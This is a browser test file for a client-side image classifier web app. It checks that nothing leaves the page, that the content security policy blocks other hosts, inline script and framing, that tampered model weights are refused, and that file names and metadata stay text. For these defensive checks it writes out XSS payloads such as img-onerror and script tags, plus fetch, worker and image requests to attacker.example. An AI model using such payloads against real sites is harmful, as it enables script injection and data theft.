/**
 * Nothing leaves the page, and nothing that a visitor opens becomes markup or script. `SKLENS_REQUESTS` names a file for the
 * requests of a session.
 */
import { readdir, writeFile } from 'node:fs/promises';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { openSite, visit, type Site } from './browser';
import { drop, galleryFiles, galleryPhoto, runOn, settled, zoomTo } from './explorer';

/** Where the page has its weights. */
async function weightsAddress(): Promise<string> {
  const names = await readdir(new URL('../../dist/models/', import.meta.url));
  return `models/${names.find((name) => name.endsWith('.safetensors'))}`;
}

/** Addresses within the site in Markdown, without the hashes of their contents. */
function requestLog(addresses: readonly string[]): string {
  const rows = addresses.map((address, index) => `| ${index + 1} | ${(address || 'index.html').replace(/-[\w-]{8}\./, '.').replace(/^blob:.*/, 'blob: (within the page)')} |\n`);
  return `# Requests of a session

A visit in Chromium: the page opens, a photo of the visitor's is dropped, the zoom moves, the engine is chosen anew, a photo of
the gallery follows. Every request of the page and its workers was a GET without a body to the site itself, which
\`www/e2e/privacy.test.ts\` demands; \`SKLENS_REQUESTS=../docs/requests.md npm --prefix www run e2e -- privacy\` writes this list.

| | address, without the hash of its content |
| ---: | --- |
${rows.join('')}`;
}

let site: Site;
beforeAll(async () => {
  site = await openSite('none');
});
afterAll(() => site.close());

test('a whole session asks for nothing but the site\'s own files and sends nothing', async () => {
  const context = await site.browser.newContext();
  const page = await context.newPage();
  const requests: { method: string; url: string; body: string | null }[] = [];
  // Those of workers are the context's, not the page's.
  context.on('request', (request) => requests.push({ method: request.method(), url: request.url(), body: request.postData() }));
  await page.goto(site.url);
  await settled(page);
  await drop(page, await galleryPhoto((await galleryFiles())[2] as string), 'secret holiday.jpg', 'image/jpeg');
  await page.getByText('It stays on this device').waitFor();
  await settled(page);
  await zoomTo(page, 1.6);
  await runOn(page, 'cpu');
  await page.getByRole('button', { name: /koala/i }).first().click();
  await settled(page);

  expect(requests.length).toBeGreaterThan(5);
  expect(requests.some(({ url }) => url.includes('.wasm')), 'the log includes what workers load').toBe(true);
  for (const { method, url, body } of requests) {
    expect([method, body]).toEqual(['GET', null]);
    expect(url.startsWith(site.url) || url.startsWith('blob:') || url.startsWith('data:'), url).toBe(true);
    expect(decodeURIComponent(url)).not.toContain('holiday');
    expect(new URL(url).search).toBe('');
  }
  const log = process.env.SKLENS_REQUESTS;
  if (log) await writeFile(log, requestLog(requests.map(({ url }) => url.replace(site.url, ''))));
  await context.close();
});

test('the policy stops other hosts, inline scripts and markup from strings', async () => {
  const { page } = await visit(site);
  await settled(page);
  const outcome = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violations.push(effectiveDirective));
    const fetched = await fetch('https://attacker.example/').then(() => 'fetched', () => 'refused');
    const script = document.createElement('script');
    script.append('window.injected = true');
    document.body.append(script);
    const attempt = (action: () => unknown) => {
      try {
        action();
        return 'done';
      } catch {
        return 'refused';
      }
    };
    const markup = attempt(() => (document.createElement('div').innerHTML = '<img src=x onerror="window.injected = true">'));
    const foreign = attempt(() => new Worker('https://attacker.example/worker.js'));
    const image = new Image();
    await new Promise((ended) => {
      image.onload = image.onerror = ended;
      image.src = 'https://attacker.example/pixel.gif';
    });
    return { fetched, markup, foreign, injected: 'injected' in window, violations };
  });
  expect(outcome).toMatchObject({ fetched: 'refused', markup: 'refused', foreign: 'refused', injected: false });
  expect(outcome.violations).toEqual(expect.arrayContaining(['connect-src', 'img-src']));
  await page.close();
});

test('the policy binds the worker that the photos are in as well', async () => {
  const { page } = await visit(site);
  await settled(page);
  const directive = await page.workers()[0]?.evaluate(
    () =>
      new Promise<string>((settle) => {
        addEventListener('securitypolicyviolation', (event) => settle((event as SecurityPolicyViolationEvent).effectiveDirective));
        // Where it is not forbidden, it fails because there is no such host.
        void fetch('https://attacker.example/').catch(() => setTimeout(() => settle('allowed'), 2000));
      }),
  );
  expect(directive).toBe('connect-src');
  await page.close();
});

test('another site cannot show the page within its own', async () => {
  const page = await site.browser.newPage();
  const refused = page.waitForEvent('console', (message) => message.text().includes('frame-ancestors'));
  await page.setContent(`<iframe src="${site.url}"></iframe>`);
  await refused;
  await page.close();
});

test('shipped weights of which one bit changed on the way are refused', async () => {
  const context = await site.browser.newContext();
  await context.route('**/*.safetensors', async (route) => {
    const response = await route.fetch();
    const body = await response.body();
    body[body.length - 100] = (body[body.length - 100] as number) ^ 1;
    await route.fulfill({ response, body });
  });
  const page = await context.newPage();
  await page.goto(site.url);
  await page.getByRole('alert').getByText(/are damaged: their SHA-256 is [0-9a-f]{64} and should be [0-9a-f]{64}/).waitFor();
  await context.close();
});

test('names of files, labels and metadata stay text', async () => {
  const { page, problems } = await visit(site);
  await settled(page);
  const evil = '<img src=x onerror="window.injected=1"><script>window.injected=1</script>';
  await drop(page, await galleryPhoto((await galleryFiles())[1] as string), `${evil}.jpg`, 'image/jpeg');
  await page.getByText('It stays on this device').waitFor();
  await settled(page);
  expect(await page.locator('.frame img').getAttribute('alt')).toContain(evil);
  await drop(page, Buffer.from('nonsense'), `${evil}.txt`, 'text/plain');
  await page.getByRole('alert').getByText(evil).waitFor();

  // A weights file whose labels and metadata are markup, opened through the API, shown by nothing but as text.
  const weights = await weightsAddress();
  const label = await page.evaluate(async ({ evil, weights }) => {
    const model = window.sklens.bundledModels()[0] as string;
    const file = new Uint8Array(await (await fetch(weights)).arrayBuffer());
    const size = Number(new DataView(file.buffer).getBigUint64(0, true));
    const header = JSON.parse(new TextDecoder().decode(file.subarray(8, 8 + size)));
    header.__metadata__ = { ...header.__metadata__, labels: JSON.stringify(Array(200).fill(evil)), note: evil };
    const text = new TextEncoder().encode(JSON.stringify(header));
    const start = new Uint8Array(8);
    new DataView(start.buffer).setBigUint64(0, BigInt(text.length), true);
    const session = await window.sklens.open({ model, weights: new Blob([start, text, file.subarray(8 + size)]), backend: 'cpu' });
    const [result] = await session.analyze({ data: new Float32Array(3 * 64 * 64), shape: [1, 3, 64, 64] });
    const { metadata } = session.info;
    session.close();
    const shown = document.createElement('p');
    shown.textContent = result?.top[0]?.label ?? '';
    document.body.append(shown);
    return [shown.textContent, metadata.note, String(shown.childElementCount)];
  }, { evil, weights });
  expect(label).toEqual([evil, evil, '0']);
  expect(await page.evaluate(() => 'injected' in window)).toBe(false);
  expect(problems).toEqual([]);
  await page.close();
});
